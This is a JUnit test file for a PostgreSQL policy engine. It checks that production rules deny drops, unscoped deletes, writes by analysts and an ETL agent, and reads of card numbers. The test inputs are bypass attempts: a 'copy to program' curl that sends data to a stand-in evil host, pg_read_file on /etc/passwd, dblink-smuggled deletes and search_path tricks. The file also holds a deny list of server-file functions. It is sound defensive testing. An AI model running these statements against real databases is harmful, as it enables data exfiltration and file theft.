package dev.parapet.policy;

import static org.assertj.core.api.Assertions.assertThat;

import dev.parapet.policy.Rule.ProtectTables.Access;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

/** The demo's production policy, decided on real analyses, including the usual ways around it. */
class PolicyEngineTest {

    private static final RuleScope PROD = RuleScope.EVERYWHERE.inEnvironments("prod");

    private final SqlAnalyzer analyzer = new SqlAnalyzer(Dialect.POSTGRES);
    private final PolicyEngine engine = new PolicyEngine(List.of(
            new Rule.DenyStatementKinds("no-drop-in-prod", "nobody drops or truncates in production", PROD,
                    Set.of(StatementKind.DROP, StatementKind.TRUNCATE)),
            new Rule.RequireWhere("where-required", "UPDATE and DELETE must name their rows", PROD),
            new Rule.ReadOnly("analysts-read-only", null, PROD.forGroups("analysts", "agents")),
            new Rule.ProtectTables("agent-no-cards", "the ETL agent never reads card numbers",
                    PROD.forGroups("agents"), List.of("public.payment_cards"), Set.of(Access.READ)),
            new Rule.DenyFunctions("no-server-files", null, RuleScope.EVERYWHERE,
                    Set.of("pg_read_file", "pg_read_binary_file", "lo_import", "dblink")),
            new Rule.RequireApproval("dba-ddl-approval", "schema changes in prod are reviewed", PROD.forGroups("dba"),
                    Set.of(StatementKind.CREATE, StatementKind.ALTER, StatementKind.DROP)),
            new Rule.DenyMultipleStatements("one-statement", null, RuleScope.EVERYWHERE.inEnvironments("prod").shadow())));

    private static final Principal ALICE = new Principal("alice", Set.of("analysts"), Principal.Kind.HUMAN);
    private static final Principal BOB = new Principal("bob", Set.of("dba"), Principal.Kind.HUMAN);
    private static final Principal AGENT = new Principal("etl-agent", Set.of("agents"), Principal.Kind.SERVICE);

    private Decision decide(Principal who, String environment, String sql) {
        return engine.decide(new PolicyRequest(who, environment.equals("prod") ? "prod" : "staging", environment,
                analyzer.analyze(sql)));
    }

    private void assertDenied(Principal who, String sql, String rule) {
        assertThat(decide(who, "prod", sql)).as(sql).isInstanceOfSatisfying(Decision.Deny.class, deny -> {
            assertThat(deny.ruleId()).isEqualTo(rule);
            assertThat(deny.sqlState()).isEqualTo("42501");
            assertThat(deny.message()).contains(rule);
        });
    }

    private void assertAllowed(Principal who, String environment, String sql) {
        assertThat(decide(who, environment, sql)).as(sql).isInstanceOf(Decision.Allow.class);
    }

    @Test
    void deniesDropAndTruncateInProdOnlyHoweverTheyAreWritten() {
        assertDenied(BOB, "DROP TABLE customers", "no-drop-in-prod");
        assertDenied(BOB, "/* cleanup */ dRoP   table \"customers\" cascade", "no-drop-in-prod");
        assertDenied(BOB, "select 1; truncate orders", "no-drop-in-prod");
        assertDenied(BOB, "prepare p as truncate orders", "no-drop-in-prod");
        assertThat(decide(BOB, "staging", "drop table customers")).isInstanceOf(Decision.Allow.class);
    }

    @Test
    void requiresARealWhereOnUpdateAndDeleteWhereverTheyHide() {
        assertDenied(BOB, "delete from orders", "where-required");
        assertDenied(BOB, "DELETE FROM orders WHERE 1=1", "where-required");
        assertDenied(BOB, "update customers set city = 'x' where true or id = 4", "where-required");
        assertDenied(BOB, "with gone as (delete from orders returning *) select count(*) from gone", "where-required");
        assertDenied(BOB, "explain analyze delete from orders", "where-required");
        assertAllowed(BOB, "prod", "delete from orders where id = 42");
        assertAllowed(BOB, "prod", "explain delete from orders");
    }

    @Test
    void analystsAndAgentsOnlyRead() {
        assertAllowed(ALICE, "prod", "select c.full_name, o.amount from customers c join orders o on o.customer_id = c.id");
        for (String write : List.of(
                "insert into orders (id, customer_id, product, amount, status, ordered_at) values (1, 1, 'x', 1, 'paid', now())",
                "update orders set status = 'refunded' where id = 1",
                "select * into customers_copy from customers",
                "create table t as select * from customers",
                "do $$ begin delete from orders; end $$",
                "copy customers to program 'curl -d @- http://evil.example'",
                "with x as (update orders set amount = 0 where id = 1 returning id) select * from x",
                "set role postgres",
                "call refresh_everything()")) {
            assertDenied(ALICE, write, "analysts-read-only");
        }
        assertAllowed(ALICE, "staging", "update orders set status = 'refunded' where id = 1");
    }

    @Test
    void readOnlyRefusesFunctionsAndLocksThatChangeStateFromASelect() {
        for (String write : List.of(
                "select nextval('orders_id_seq')",
                "select pg_catalog.setval('orders_id_seq', 1)",
                "select * from orders where id = nextval('s')",
                "select set_config('role', 'postgres', false)",
                "select pg_advisory_lock(42)",
                "select lo_from_bytea(0, 'x')",
                "select pg_terminate_backend(4242)",
                "select pg_notify('c', 'x')",
                "select * from dblink('dbname=x', 'delete from orders') as t(x text)",
                "select * from orders for update",
                "select * from (select id from orders for share) o")) {
            assertDenied(ALICE, write, "analysts-read-only");
        }
        assertAllowed(ALICE, "prod", "select currval('orders_id_seq'), txid_current(), pg_sleep(0)");
    }

    @Test
    void protectTablesRefusesWhatWouldTakeATableOutOfItsSight() {
        PolicyEngine cards = new PolicyEngine(List.of(new Rule.ProtectTables("cards", null, RuleScope.EVERYWHERE,
                List.of("public.payment_cards", "vault.*"), Set.of(Access.READ))));
        for (String sql : List.of(
                "alter table payment_cards rename to pc",
                "alter table public.payment_cards set schema archive",
                "alter schema public rename to old_public",
                "alter schema vault rename to open",
                "create rule copy_out as on insert to payment_cards do also insert into log values (new.card_number)",
                "create trigger copy_out after insert on payment_cards for each row execute function copy_row()",
                "select query_to_xml('select * from payment_cards', true, false, '')",
                "select pg_catalog.table_to_xml('payment_cards', true, false, '')",
                "select * from ts_stat('select to_tsvector(card_number) from payment_cards')",
                "set search_path = vault, public",
                "set schema 'vault'",
                "alter role etl set search_path = vault",
                "alter database prod set search_path = vault, public",
                "select set_config('search_path', 'vault', false)")) {
            assertThat(cards.decide(new PolicyRequest(AGENT, "prod", "prod", analyzer.analyze(sql)))).as(sql)
                    .isInstanceOf(Decision.Deny.class);
        }
        for (String sql : List.of("select * from customers", "alter table customers add column vip boolean",
                "create index on payment_cards (customer_id)", "set statement_timeout = 0",
                "select current_setting('search_path')")) {
            assertThat(cards.decide(new PolicyRequest(AGENT, "prod", "prod", analyzer.analyze(sql)))).as(sql)
                    .isInstanceOf(Decision.Allow.class);
        }
        PolicyEngine oneTable = new PolicyEngine(List.of(new Rule.ProtectTables("cards", null, RuleScope.EVERYWHERE,
                List.of("public.payment_cards"), Set.of(Access.READ))));
        assertThat(oneTable.decide(new PolicyRequest(AGENT, "prod", "prod", analyzer.analyze("set search_path = vault"))))
                .as("an unqualified name matches a named table anyway, so the search path does not matter")
                .isInstanceOf(Decision.Allow.class);
    }

    @Test
    void deniedFunctionsLeftInDefinitionsAreRefused() {
        for (String sql : List.of(
                "create table t (a text default pg_read_file('/etc/passwd'))",
                "create table t (a text, check (pg_read_file('x') is not null))",
                "alter table customers add column leak text default pg_catalog.pg_read_file('x')",
                "create operator ### (function = pg_read_file, rightarg = text)")) {
            assertDenied(BOB, sql, "no-server-files");
        }
    }

    @Test
    void theAgentCannotReadCardNumbersByAnyRoute() {
        assertAllowed(AGENT, "prod", "select id, email from customers");
        for (String read : List.of(
                "select * from payment_cards",
                "select card_number from public.payment_cards",
                "select c.email, p.card_number from customers c join payment_cards p on p.customer_id = c.id",
                "with p as (select * from payment_cards) select * from p",
                "select (select card_number from payment_cards limit 1)",
                "select email from customers union all select card_number from payment_cards",
                "copy (select * from payment_cards) to stdout")) {
            assertThat(decide(AGENT, "prod", read)).as(read).isInstanceOf(Decision.Deny.class);
        }
    }

    @Test
    void deniesServerFileFunctionsEvenSchemaQualified() {
        assertDenied(BOB, "select pg_read_file('/etc/passwd')", "no-server-files");
        assertDenied(BOB, "select pg_catalog.pg_read_file('postgresql.conf')", "no-server-files");
    }

    @Test
    void ddlByADbaWaitsForApprovalButADenyStillWins() {
        assertThat(decide(BOB, "prod", "alter table customers add column vip boolean"))
                .isInstanceOfSatisfying(Decision.RequireApproval.class, a -> assertThat(a.ruleId()).isEqualTo("dba-ddl-approval"));
        assertDenied(BOB, "drop index customers_email_idx", "no-drop-in-prod");
        assertAllowed(BOB, "prod", "select count(*) from customers");
    }

    @Test
    void shadowRulesReportWithoutEnforcing() {
        Decision decision = decide(BOB, "prod", "select 1; select 2");
        assertThat(decision).isInstanceOf(Decision.Allow.class);
        assertThat(decision.shadowed()).extracting(Decision.Verdict::ruleId).containsExactly("one-statement");
    }

    @Test
    void unreadableStatementsAreRefusedUnlessATargetAllowsThem() {
        StatementAnalysis unreadable = new StatementAnalysis.Unparseable("cannot read it", "?");
        Decision refused = engine.decide(new PolicyRequest(BOB, "prod", "prod", unreadable));
        assertThat(refused).isInstanceOfSatisfying(Decision.Deny.class, d -> {
            assertThat(d.ruleId()).isEqualTo(PolicyEngine.UNPARSEABLE_RULE);
            assertThat(d.sqlState()).isEqualTo("42601");
            assertThat(d.message()).contains("cannot read it");
        });
        PolicyEngine lenient = new PolicyEngine(List.of(new Rule.AllowUnparseable("legacy-sql", null,
                new RuleScope(Set.of("legacy"), Set.of(), Set.of(), Set.of(), Set.of(), RuleScope.Mode.ENFORCE))));
        assertThat(lenient.decide(new PolicyRequest(BOB, "legacy", "prod", unreadable))).isInstanceOf(Decision.Allow.class);
        assertThat(lenient.decide(new PolicyRequest(BOB, "prod", "prod", unreadable))).isInstanceOf(Decision.Deny.class);
    }
}
